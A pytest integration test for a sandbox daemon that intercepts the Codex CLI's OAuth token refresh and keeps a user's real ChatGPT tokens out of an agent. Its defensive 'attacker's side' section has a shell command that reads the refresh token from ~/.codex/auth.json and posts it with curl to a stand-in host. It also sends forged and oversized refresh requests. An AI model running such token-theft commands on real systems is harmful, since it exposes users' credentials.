"""Issue 45 item 1, Codex's own token refresh inside an agent answered by the
daemon, with the real Codex 0.171.0 (the vendor's npm package, pinned in
scripts/setup, run from /opt/leviath-dev/npm/prefix).

alice is logged in to Codex with ChatGPT on the host (~/.codex/auth.json:
JWT access and ID tokens, a refresh token, her account id); her access
token expires in two minutes, so Codex refreshes before its first request
(it does so when the token's `exp` is within about five minutes).

The STAND-IN for OpenAI's servers is a TLS server of the test's in a
network namespace (test_cli_logins.stand_in: a test CA in the bed's trust
store, the host names resolved to it by the bed's /etc/hosts). As
auth.openai.com it answers /oauth/token with new tokens; as chatgpt.com it
answers the workspace check and /backend-api/codex/responses with a reply
of its own. It logs each request's Host, path, Authorization, account
header and the refresh token in its body.

- `codex exec` inside gets the stand-in's reply; the stand-in's token
  endpoint got alice's REAL refresh token once (the daemon's refresh; the
  agent's CLI only ever sent its placeholder); alice's host file holds the
  new tokens (other keys, mode and owner kept); the agent's auth.json holds
  placeholders of the new tokens' shape (the new claims, its own
  signatures) and nothing real; Codex's model request after the refresh
  reached the stand-in with the NEW access token;
- the attacker's side first: a refresh with a forged token and one over
  the body bound are refused (403, 413), nothing reaches the stand-in's
  token endpoint and the host's file is not written; the placeholder
  refresh token sent to another host goes as it is.
On the code before this change Codex's refresh was not intercepted: it went
to the stand-in with the agent's placeholder refresh token (seen).
"""

from __future__ import annotations

import base64
import json
import time
from collections.abc import Iterator

import pytest
from loop_agent import lay_out
from test_cli_logins import CODEX, SERVE_TAIL, stand_in, stand_in_log
from test_egress_credentials import answering
from test_gate_bed import Agent
from testbed import Testbed

pytestmark = pytest.mark.testbed

HOSTS = ("auth.openai.com", "chatgpt.com", "api.openai.com", "other.test")
ACCOUNT = "acct-alice-123"


def _b64(doc: dict[str, object]) -> str:
    return base64.urlsafe_b64encode(json.dumps(doc).encode()).rstrip(b"=").decode()


def jwt(sig: str, **claims: object) -> str:
    """A JWT of OpenAI's shape (unsigned here: Codex reads its claims only)."""
    auth = {"https://api.openai.com/auth": {"chatgpt_account_id": ACCOUNT,
                                            "chatgpt_plan_type": "pro"}}
    return f"{_b64({'alg': 'RS256', 'typ': 'JWT'})}.{_b64({**auth, **claims})}.{sig}"


NOW = int(time.time())
ACCESS = jwt("RealAccessSignature0Of0Alice0Xq7Lm2Vb9Kd4Hs1Wf6Jp3Nc8", exp=NOW + 120, n=1)
ID = jwt("RealIdSignature0Of0Alice0Zu8Pe1Ox4Mi7Ky2Gl5Db9Sa3Fj6", exp=NOW + 120,
         email="alice@example.com")
REFRESH = "rt_RealRefresh0Token0Of0Alice0Bn4Cv7Xz1Lk8Jh2Gf5Ds9Aq3"
# What the STAND-IN token endpoint gives for a refresh.
NEW_ACCESS = jwt("NewAccessSignature0From0The0Standin0Hq4Wz8Ly1Nc5Vr3", exp=NOW + 864000,
                 n=2)
NEW_ID = jwt("NewIdSignature0From0The0Standin0Ub6Jt2Xo9Sm4Dg7Kc1", exp=NOW + 864000,
             email="alice@example.com")
NEW_REFRESH = "rt_NewRefresh0From0The0Standin0Pk5Jq8Wm1Xn4Bz7Cv2Dh"
REAL = (ACCESS, ID, REFRESH, NEW_ACCESS, NEW_ID, NEW_REFRESH)
LOGIN = {"OPENAI_API_KEY": None, "tokens": {"id_token": ID, "access_token": ACCESS,
                                            "refresh_token": REFRESH, "account_id": ACCOUNT},
         "last_refresh": "2026-12-01T10:00:00.000000Z"}

BLUEPRINT = """
[agent]
name = "codexrefresh"
description = "runs the test's commands"
command = ["sh", "loop.sh"]
"""

SERVER = f"""
import http.server, json, ssl

TOKENS = json.dumps({{"access_token": "{NEW_ACCESS}", "id_token": "{NEW_ID}",
                     "refresh_token": "{NEW_REFRESH}", "expires_in": 864000,
                     "token_type": "Bearer"}}).encode()
CHECK = json.dumps({{"accounts": [{{"id": "{ACCOUNT}", "workspace_backend_origin":
                   "NO_CONSTRAINT", "account_routing_override": "NO_CONSTRAINT",
                   "plan_type": "pro", "structure": "personal"}}]}}).encode()
EVENTS = [
    {{"type": "response.created", "response": {{"id": "resp_standin"}}}},
    {{"type": "response.output_item.done", "item": {{
        "type": "message", "role": "assistant", "id": "msg_standin",
        "content": [{{"type": "output_text", "text": "standin-pong"}}]}}}},
    {{"type": "response.completed", "response": {{"id": "resp_standin", "usage": {{
        "input_tokens": 1, "input_tokens_details": {{"cached_tokens": 0}},
        "output_tokens": 1, "output_tokens_details": {{"reasoning_tokens": 0}},
        "total_tokens": 2}}}}}}]
SSE = "".join(f"event: {{e['type']}}\\ndata: {{json.dumps(e)}}\\n\\n" for e in EVENTS).encode()

class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def serve(self):
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n) if n else b""
        try:
            refresh = str(json.loads(body).get("refresh_token", ""))
        except Exception:
            refresh = ""
        path = self.path.split("?")[0]
        with open("/srv/cli45/log.jsonl", "a") as f:
            f.write(json.dumps({{"host": self.headers.get("Host", ""), "path": path,
                                "method": self.command,
                                "auth": self.headers.get("Authorization", ""),
                                "account": self.headers.get("chatgpt-account-id", ""),
                                "refresh": refresh}}) + "\\n")
        code, kind, out = 404, "application/json", b'{{"detail": "not found"}}'
        if path == "/oauth/token":
            code, out = 200, TOKENS
        elif path == "/backend-api/wham/accounts/check":
            code, out = 200, CHECK
        elif path == "/backend-api/codex/responses":
            # The WebSocket upgrade gets no 101: Codex falls back to this POST.
            code, kind, out = 200, "text/event-stream", SSE
        elif path == "/ready" or path.startswith("/echo"):
            code, out = 200, b"{{}}"
{SERVE_TAIL}"""


@pytest.fixture(scope="module")
def agent(testbed: Testbed) -> Iterator[Agent]:
    bed = testbed
    if bed.run(["test", "-x", CODEX], check=False).returncode != 0:
        pytest.fail(f"{CODEX} is missing: run scripts/setup (it fetches the pinned npm packages)")
    home = bed.users["alice"].home
    rel = ".codex/auth.json"
    assert bed.run(["test", "-e", f"{home}/{rel}"], check=False).returncode != 0
    bed.run(["sh", "-c", 'mkdir -p -m 700 "$(dirname "$1")" && umask 077 && cat > "$1"',
             "login", rel], user="alice", cwd=home, input=json.dumps(LOGIN, indent=2))
    lay_out(bed, "cxw", "cxbp", BLUEPRINT)
    try:
        with stand_in(bed, SERVER, HOSTS):
            out = bed.run(["lev", "run", "--detach", f"{home}/cxbp"], user="alice",
                          cwd=f"{home}/cxw").stdout.strip()
            assert len(out) == 8, out
            with answering(bed, Agent(bed, "alice", out, f"{home}/cxw")) as a:
                yield a
    finally:
        bed.run(["rm", "-f", f"{home}/{rel}"], check=False)


def _split(secret: str) -> str:
    """The secret as a shell word that is not its bytes in a row (the script
    is written under the workdir, which is scanned)."""
    return f"'{secret[:20]}''{secret[20:]}'"


def _codex_body(token: str) -> str:
    """Codex 0.171.0's refresh request body, as it sends it."""
    return json.dumps({"client_id": "app_EMoamEEZ73f0CkXaXp7hrann",
                       "grant_type": "refresh_token", "refresh_reason": "proactive_expiry",
                       "refresh_token": token})


def test_codexs_refresh_inside_is_answered_by_the_daemon_and_updates_the_hosts_file(
        testbed: Testbed, agent: Agent) -> None:
    home = testbed.users["alice"].home
    host_file = f"{home}/.codex/auth.json"
    before = testbed.read_file(host_file)
    mode = testbed.run(["stat", "-c", "%a %U", host_file]).stdout.strip()
    # The attacker's side first.
    forged = "rt_Forged0Token0Of0The0Agent0Kq2Wm7Xb4Zn8Lp3Vd6Rt"
    rc, out, err = agent.call(f"""
rph=$(python3 -c 'import json,os; print(json.load(open(os.path.expanduser(
    "~/.codex/auth.json")))["tokens"]["refresh_token"])')
echo $rph
curl -fsS -o /dev/null https://other.test/echo -H 'Content-Type: application/json' \\
  -d "$(printf '%s' {json.dumps(_codex_body("@PH@"))} | sed "s/@PH@/$rph/")"
curl -sS -o /dev/null -w '%{{http_code}}\\n' https://auth.openai.com/oauth/token \\
  -H 'Content-Type: application/json' -d {json.dumps(_codex_body(forged))!r}
python3 -c 'print(" " * 20000)' > big.json
curl -sS -o /dev/null -w '%{{http_code}}\\n' https://auth.openai.com/oauth/token \\
  -H 'Content-Type: application/json' --data-binary @big.json
""", timeout=60)
    assert rc == 0, (out, err)
    refresh_ph, forged_status, big_status = out.splitlines()
    assert len(refresh_ph) >= 32 and refresh_ph != REFRESH
    assert (forged_status, big_status) == ("403", "413"), out
    log = stand_in_log(testbed)
    to_other = [e for e in log if e["host"] == "other.test"]
    assert to_other and to_other[-1]["refresh"] == refresh_ph, to_other
    assert not [e for e in log if e["host"] == "auth.openai.com"], log
    assert testbed.read_file(host_file) == before

    # The real codex, its access token expiring in two minutes.
    rc, out, err = agent.call(f"""
cat ~/.codex/auth.json > before.json
timeout 150 {CODEX} exec --skip-git-repo-check 'say hello' > codex.out 2> codex.err
echo "codex=$?"
cat ~/.codex/auth.json | python3 -c 'import json,sys; print(json.dumps(json.load(sys.stdin)))'
grep -r -l -a {" ".join(f"-e {_split(s)}" for s in REAL)} "$HOME" /tmp . 2>/dev/null | head
""", timeout=200)
    assert rc == 0, (out, err)
    lines = out.splitlines()
    reply = testbed.read_file(f"{agent.workdir}/codex.out")
    errors = testbed.read_file(f"{agent.workdir}/codex.err")
    log = stand_in_log(testbed)
    assert lines[0] == "codex=0" and "standin-pong" in reply, (out, reply, errors, log)
    # The daemon's refresh, with alice's real refresh token: once.
    to_token = [e for e in log if e["host"] == "auth.openai.com"]
    assert [e["refresh"] for e in to_token] == [REFRESH], to_token
    host = json.loads(testbed.read_file(host_file))
    assert host["tokens"] == {"id_token": NEW_ID, "access_token": NEW_ACCESS,
                              "refresh_token": NEW_REFRESH, "account_id": ACCOUNT}, host
    assert host["OPENAI_API_KEY"] is None and host["last_refresh"] > LOGIN["last_refresh"]
    assert testbed.run(["stat", "-c", "%a %U", host_file]).stdout.strip() == mode == "600 alice"
    # The agent's file: placeholders with the new claims, its own signatures.
    seen = json.loads(testbed.read_file(f"{agent.workdir}/before.json"))["tokens"]
    now = json.loads(lines[1])["tokens"]
    for key, new in (("access_token", NEW_ACCESS), ("id_token", NEW_ID)):
        assert now[key].split(".")[:2] == new.split(".")[:2], (key, now)
        assert now[key].split(".")[2] == seen[key].split(".")[2] != new.split(".")[2]
    assert now["refresh_token"] == refresh_ph
    assert lines[2:] == [], out
    # Codex's model request after the refresh: the NEW token, her account.
    to_model = [e for e in log if e["path"] == "/backend-api/codex/responses"]
    assert to_model and to_model[-1]["auth"] == "Bearer " + NEW_ACCESS, to_model
    assert to_model[-1]["account"] == ACCOUNT
    assert not any(s in out + err + reply + errors for s in REAL)
